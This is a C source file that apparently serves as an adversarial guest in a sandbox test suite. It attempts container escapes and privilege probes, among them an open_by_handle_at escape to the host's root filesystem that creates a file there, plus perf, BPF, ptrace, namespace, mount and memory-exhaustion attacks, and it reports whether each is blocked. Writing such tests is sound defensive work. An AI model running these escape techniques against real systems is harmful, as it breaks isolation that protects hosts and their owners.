/* SPDX-License-Identifier: MIT */
/*
 * hostile.c - a guest that attacks the sandbox it runs in, one attack per argument. Each prints
 * `<attack>: <errno name>` (or what it reached), so test-adversary.c can assert the outcome.
 *
 *   survey             the capability and namespace table, then "ready", then sleeps 2 s
 *   handles DIR        name_to_handle_at on DIR, then open_by_handle_at of inode 2 (the root
 *                      of an ext4 filesystem) through DIR, and a file created there if it opens
 *   perf               system-wide perf_event_open
 *   bpf                BPF_PROG_LOAD of a kprobe program
 *   ptrace             PTRACE_ATTACH to init
 *   unshare            a new user namespace
 *   mount              a tmpfs on /mnt
 *   memory             touches memory 16 MiB at a time, up to 8 GiB
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <linux/bpf.h>
#include <linux/perf_event.h>

#define ESCAPE_NAME "pikaci-adversary-escape"

static int report(const char *attack, long r)
{
	printf("%s: %s\n", attack, r < 0 ? strerrorname_np(errno) : "succeeded");
	return 0;
}

static void print_file_lines(const char *path, const char *const *keys)
{
	char line[512];
	FILE *f = fopen(path, "re");

	if (!f) {
		printf("| %-12s | (unreadable: %s)\n", path, strerrorname_np(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		for (const char *const *k = keys; *k; k++) {
			size_t n = strlen(*k);

			if (strncmp(line, *k, n) == 0 && line[n] == ':') {
				char *value = line + n + 1;

				value += strspn(value, " \t");
				value[strcspn(value, "\n")] = '\0';
				printf("| %-12s | %s\n", *k, value);
			}
		}
	}
	fclose(f);
}

static int survey(void)
{
	static const char *const keys[] = { "Uid",    "Gid",    "Groups", "CapInh",     "CapPrm",
		                            "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp",
		                            "SigBlk", "SigIgn", NULL };
	static const char *const maps[] = { "uid_map", "gid_map" };
	static const char *const namespaces[] = { "user", "mnt", "pid",   "net",
		                                  "ipc",  "uts", "cgroup" };
	char path[64], target[128], line[256];

	printf("| %-12s | %s\n", "seen inside", "value");
	print_file_lines("/proc/self/status", keys);
	for (size_t i = 0; i < 2; i++) {
		FILE *f;

		snprintf(path, sizeof(path), "/proc/self/%s", maps[i]);
		f = fopen(path, "re");
		while (f && fgets(line, sizeof(line), f)) {
			line[strcspn(line, "\n")] = '\0';
			printf("| %-12s | %s\n", maps[i], line + strspn(line, " "));
		}
		if (f)
			fclose(f);
	}
	for (size_t i = 0; i < sizeof(namespaces) / sizeof(namespaces[0]); i++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", namespaces[i]);
		n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("| ns %-9s | %s\n", namespaces[i], target);
	}
	printf("ready\n");
	fflush(stdout);
	sleep(2);
	return 0;
}

static int handles(const char *dir)
{
	struct {
		struct file_handle header;
		unsigned char bytes[128];
	} handle = { .header.handle_bytes = 128 };
	uint32_t root[2] = { 2, 0 };
	int mount_id, fd, dirfd;

	report("name_to_handle_at", name_to_handle_at(AT_FDCWD, dir, &handle.header, &mount_id, 0));
	dirfd = open(dir, O_RDONLY | O_CLOEXEC);
	if (dirfd < 0)
		return report("open", -1);
	/* FILEID_INO32_GEN of inode 2: the root directory of the filesystem DIR lives on. */
	handle.header.handle_type = 1;
	handle.header.handle_bytes = sizeof(root);
	memcpy(handle.header.f_handle, root, sizeof(root));
	fd = open_by_handle_at(dirfd, &handle.header, O_RDONLY | O_DIRECTORY);
	report("open_by_handle_at", fd);
	if (fd >= 0) {
		int escaped = openat(fd, ESCAPE_NAME, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		report("create on the host's root", escaped);
	}
	return 0;
}

static int perf(void)
{
	struct perf_event_attr attr = { .type = PERF_TYPE_SOFTWARE,
		                        .size = sizeof(attr),
		                        .config = PERF_COUNT_SW_CPU_CLOCK };

	/* pid -1, cpu 0: every process on the CPU, the host's included. */
	return report("perf_event_open", syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
}

static int bpf(void)
{
	struct bpf_insn program[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_KPROBE,
		                .insn_cnt = 2,
		                .insns = (uintptr_t)program,
		                .license = (uintptr_t) "GPL" };

	return report("bpf", syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
}

static int memory(void)
{
	size_t chunk = 16u << 20, total = 0;

	while (total < (8ull << 30)) {
		char *p = malloc(chunk);

		if (!p)
			return report("malloc", -1);
		memset(p, 0x5a, chunk);
		total += chunk;
		if (total % (256u << 20) == 0) {
			printf("touched %zu MiB\n", total >> 20);
			fflush(stdout);
		}
	}
	printf("memory: all 8 GiB touched\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* The test's tag, by which it finds its guests from the host: not an argument. */
	if (argc > 1 && strncmp(argv[argc - 1], "pikaci-adversary-", 17) == 0)
		argc--;
	if (argc == 2 && strcmp(argv[1], "survey") == 0)
		return survey();
	if (argc == 3 && strcmp(argv[1], "handles") == 0)
		return handles(argv[2]);
	if (argc == 2 && strcmp(argv[1], "perf") == 0)
		return perf();
	if (argc == 2 && strcmp(argv[1], "bpf") == 0)
		return bpf();
	if (argc == 2 && strcmp(argv[1], "ptrace") == 0)
		return report("ptrace", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
	if (argc == 2 && strcmp(argv[1], "unshare") == 0)
		return report("unshare", unshare(CLONE_NEWUSER));
	if (argc == 2 && strcmp(argv[1], "mount") == 0)
		return report("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
	if (argc == 2 && strcmp(argv[1], "memory") == 0)
		return memory();
	fprintf(stderr, "usage: hostile ATTACK [ARGUMENT]\n");
	return 2;
}
